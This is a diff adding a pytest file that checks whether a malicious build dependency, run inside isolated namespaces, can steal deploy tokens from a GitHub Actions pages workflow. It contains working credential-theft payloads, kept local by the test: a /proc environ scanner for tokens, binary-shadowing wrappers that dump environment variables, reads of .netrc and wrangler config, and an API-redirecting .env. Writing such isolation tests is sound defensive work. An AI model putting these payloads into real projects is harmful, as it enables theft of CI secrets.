@@ -1,0 +1,249 @@
+"""The jobs of redeploy-pages.yml as machines of their own: what an old dependency reaches, and that it is no token.
+
+Each job has users, processes, a home and a workspace of its own; from one to the next go the artifacts alone. The build's
+machine goes on while the deploy job works: what the dependency left running there goes on looking.
+"""
+
+import os
+import shutil
+import subprocess
+import threading
+from collections.abc import Iterator, Mapping
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from datetime import timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from ops.tools import node
+from sandbox.actions.expressions import text
+from tests.conftest import ROOT, SITE, World
+from tests.support.site_repository import BUILD, Repository, repository
+
+WORKFLOW = yaml.safe_load((ROOT / ".github/workflows/redeploy-pages.yml").read_text())
+UNSHARE = ["unshare", "--user", "--map-root-user", "--pid", "--fork", "--mount-proc"]
+HIDDEN = 'for place in $HIDE; do mount -t tmpfs none "$place"; done; '
+
+pytestmark = [
+    pytest.mark.slow,
+    pytest.mark.skipif(
+        shutil.which("unshare") is None
+        or subprocess.run([*UNSHARE, "true"], capture_output=True, check=False).returncode != 0,
+        reason="needs Linux, and user namespaces that are allowed",
+    ),
+]
+
+EVIL = """
+import os, time
+wanted, loot = (b"TOKEN=", b"WEBHOOK_URL="), os.environ["LOOT"]
+open(loot + ".began", "w").close()
+while True:
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            seen = open(f"/proc/{pid}/environ", "rb").read().split(b"\\0")
+        except OSError:
+            continue
+        for found in seen:
+            if any(name in found for name in wanted) and found.partition(b"=")[2]:
+                open(loot, "ab").write(found + b"\\n")
+    time.sleep(0.01)
+"""
+INSTALL = """set -e
+setsid python3 node_modules/evil/evil.py > /dev/null 2>&1 &
+for name in wrangler node npm python3 git; do
+  mkdir -p "$HOME/.local/bin" node_modules/.bin ../bin
+  for place in "$HOME/.local/bin" node_modules/.bin ../bin; do
+    printf '#!/bin/sh\\nenv >> "%s"\\n' "$LOOT" > "$place/$name"; chmod +x "$place/$name"
+  done
+done
+echo "CLOUDFLARE_API_BASE_URL=http://127.0.0.1:9/" | tee .env > ../.env
+env >> "$LOOT.build"
+cat "$HOME/.netrc" "$HOME/.config/.wrangler/config/default.toml" >> "$LOOT.files" 2> /dev/null || true
+while [ ! -e "$LOOT.began" ]; do :; done
+mkdir -p dist; cp .env dist/.env; cp -r node_modules/.bin dist/bin; ln -s /proc/self/environ dist/environ
+"""
+
+
+@dataclass
+class Jobs:
+    """Three machines below one folder."""
+
+    world: World
+    folder: Path
+    outputs: dict[str, Any] = field(default_factory=dict)
+
+    def place(self, job: str) -> Path:
+        """Its workspace, made at the first call: our files, and the site's repository where the job checks it out."""
+        workspace = self.folder / job / "workspace"
+        if not workspace.exists():
+            for part in ("home", "temp"):
+                (self.folder / job / part).mkdir(parents=True)
+            for part in ("ops", "templates"):
+                shutil.copytree(
+                    ROOT / part, workspace / part, ignore=shutil.ignore_patterns("__pycache__", "node_modules")
+                )
+            shutil.copy(self.world.config, workspace / "ops.yml")
+            if any(step.get("with", {}).get("path") == "app" for step in WORKFLOW["jobs"][job]["steps"]):
+                subprocess.run(
+                    ["git", "clone", "-q", str(self.world.folder / "app"), str(workspace / "app")], check=True
+                )
+        return workspace
+
+    def command(self, job: str) -> tuple[list[str], dict[str, str]]:
+        """The job's step that is ours, on a machine of its own, with the secrets that its environment has."""
+        workspace, temp = self.place(job), self.folder / job / "temp"
+        (step,) = [s for s in WORKFLOW["jobs"][job]["steps"] if "run" in s and "ops gate" not in s["run"]]
+        secrets = {"CLOUDFLARE_API_TOKEN": self.world.sandbox.token, "SLACK_WEBHOOK_URL": "http://127.0.0.1:9/slack"}
+        contexts = {
+            "inputs": {"service": "frontend", "environment": "production", "commit": "previous", "dry_run": False},
+            "needs": {"fetch": {"outputs": self.outputs}},
+            "steps": {"setup": {"outputs": {"path": ""}}, "gate": {"outputs": self.gate()}},
+            "secrets": secrets if "environment" in WORKFLOW["jobs"][job] else {},
+            "github": {"token": "ghs_of_the_job", "repository": "acme/ops"},
+            "vars": {},
+            "runner": {"temp": str(temp)},
+        }
+        given = {name: text(str(value), contexts) for name, value in step["env"].items()}
+        sandboxed = {n: v for n, v in self.world.sandbox.environ().items() if not n.endswith("_TOKEN")}
+        environ = {
+            "PATH": f"{ROOT / '.venv/bin'}:{node.node().parent}:/usr/bin:/bin",
+            "HOME": str(self.folder / job / "home"),
+            "XDG_CACHE_HOME": os.environ.get("XDG_CACHE_HOME") or str(Path.home() / ".cache"),
+            "TMPDIR": str(temp),
+            "GITHUB_ACTIONS": "true",
+            "GITHUB_REPOSITORY": "acme/ops",
+            "GITHUB_OUTPUT": str(temp / "outputs"),
+            "HIDE": " ".join(str(other) for other in self.folder.iterdir() if other.name != job),
+            "STEP": step["run"],
+            **sandboxed,
+            **{name: value for name, value in given.items() if value},
+        }
+        return [*UNSHARE, "sh", "-c", f'{HIDDEN} cd {workspace}; sh -e -c "$STEP"; echo $? > {temp}/code'], environ
+
+    def gate(self) -> Mapping[str, str]:
+        return {"requested_at": self.world.sandbox.clock.now().isoformat(), "permission": "checked"}
+
+    def run(self, job: str) -> str:
+        argv, environ = self.command(job)
+        done = subprocess.run(argv, env=environ, capture_output=True, text=True, timeout=120, check=False)
+        code = (self.folder / job / "temp" / "code").read_text().strip()
+        assert code == "0", done.stdout + done.stderr
+        return done.stdout + done.stderr
+
+    @contextmanager
+    def going_on(self, job: str, then: str = "") -> Iterator[None]:
+        """The job's step and then that; its machine stays until the end, with all that still runs there."""
+        argv, environ = self.command(job)
+        waiting = [*argv[:-1], f'{argv[-1]}; {then} echo "the step has ended"; read -r _']
+        pipes: dict[str, Any] = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "stderr": subprocess.STDOUT}
+        with subprocess.Popen(waiting, env=environ, text=True, **pipes) as machine:
+            assert machine.stdin
+            assert machine.stdout
+            watch = threading.Timer(120, machine.kill)
+            watch.start()
+            said = []
+            for line in machine.stdout:
+                said.append(line)
+                if "the step has ended" in line:
+                    break
+            code = self.folder / job / "temp" / "code"
+            try:
+                assert code.exists(), "".join(said)
+                assert code.read_text().strip() == "0", "".join(said)
+                yield
+                assert machine.poll() is None, "the machine ended before"
+            finally:
+                watch.cancel()
+                machine.stdin.close()
+
+    def read_outputs(self) -> None:
+        """Of the job fetch, as GitHub takes them."""
+        lines = (self.folder / "fetch" / "temp" / "outputs").read_text().splitlines()
+        for at, line in enumerate(lines):
+            name, between, _ = line.partition("<<")
+            if between:
+                self.outputs[name] = lines[at + 1]
+
+
+@pytest.fixture
+def jobs(world: World, tmp_path: Path) -> Jobs:
+    node.install()  # a machine's tools are there before a job
+    world.sandbox.switches.propagation_seconds = 0
+    world.edit_config("content-type: text/html\n", "content-type: text/html\n              body: good\n")
+    app: Repository = repository(world)
+    loot = tmp_path / "jobs" / "build" / "loot"
+    world.edit_config("          output: dist\n", f"          output: dist\n          env: {{LOOT: {loot}}}\n")
+    for name, content in {"evil.py": EVIL, "install.sh": INSTALL}.items():
+        path = app.folder / "node_modules" / "evil" / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(content)
+    app.commit("old", page_html="<h1>good</h1>", build_sh=f"{BUILD}sh node_modules/evil/install.sh\n")
+    bad = app.commit("bad", page_html="<h1>bad</h1>")
+    world.site(timedelta(minutes=10), "bad", commit=bad)
+    (tmp_path / "jobs").mkdir()
+    found = Jobs(world, tmp_path / "jobs")
+    for job in ("fetch", "build", "deploy"):
+        found.place(job)
+    return found
+
+
+def hand_on(jobs: Jobs, name: str, source: str, target: str) -> None:
+    """As upload-artifact and download-artifact do it: plain files."""
+    shutil.copytree(jobs.folder / source, jobs.folder / target / name)
+
+
+def fetched(jobs: Jobs) -> None:
+    jobs.run("fetch")
+    jobs.read_outputs()
+    (jobs.folder / "build" / "temp" / "tree").mkdir()
+    shutil.copy(jobs.folder / "fetch" / "temp" / "tree.tar", jobs.folder / "build" / "temp" / "tree" / "tree.tar")
+
+
+def test_an_old_dependency_that_goes_on_looking_finds_no_token_and_replaces_nothing_that_deploys(jobs: Jobs) -> None:
+    fetched(jobs)
+
+    with jobs.going_on("build"):
+        hand_on(jobs, "built", "build/temp/built", "deploy/temp")
+        (jobs.folder / "deploy" / "temp" / "configuration").mkdir()
+        shutil.copy(jobs.folder / "fetch/temp/configuration.json", jobs.folder / "deploy/temp/configuration")
+        said = jobs.run("deploy")
+
+    live = jobs.world.sandbox.pages.projects[SITE].live
+    assert live is not None
+    assert live.commit_hash == jobs.outputs["commit"], said
+    assert live.files["/index.html"].content == b"<h1>good</h1>"
+    assert (jobs.folder / "build" / "loot.began").exists()
+    assert not (jobs.folder / "build" / "loot").exists()
+    assert (jobs.folder / "build" / "loot.files").read_text() == ""
+    held = (jobs.folder / "build" / "loot.build").read_text()
+    assert "TOKEN" not in held
+    assert "WEBHOOK" not in held
+    published = b"".join(asset.content for asset in live.files.values())
+    assert jobs.world.sandbox.token.encode() not in published
+    assert "/environ" not in live.files
+
+
+def test_the_same_dependency_finds_a_token_where_the_same_machine_has_one(jobs: Jobs) -> None:
+    """So the test above can fail, and a laptop is weaker."""
+    fetched(jobs)
+    holds = "CLOUDFLARE_API_TOKEN=found-it timeout 30 sh -c 'while [ ! -s \"$0\" ]; do :; done' "
+
+    with jobs.going_on("build", then=f"{holds} {jobs.folder / 'build' / 'loot'};"):
+        assert "found-it" in (jobs.folder / "build" / "loot").read_text()
+
+
+def test_the_build_job_has_no_environment_and_no_secret(jobs: Jobs) -> None:
+    build = WORKFLOW["jobs"]["build"]
+
+    assert "environment" not in build
+    assert build["permissions"] == {"contents": "read"}
+    assert "secrets." not in str(build)
+    assert "github.token" not in str(build)
+    assert all(
+        step["with"]["persist-credentials"] is False
+        for step in build["steps"]
+        if step.get("uses", "").startswith("actions/checkout@")
+    )
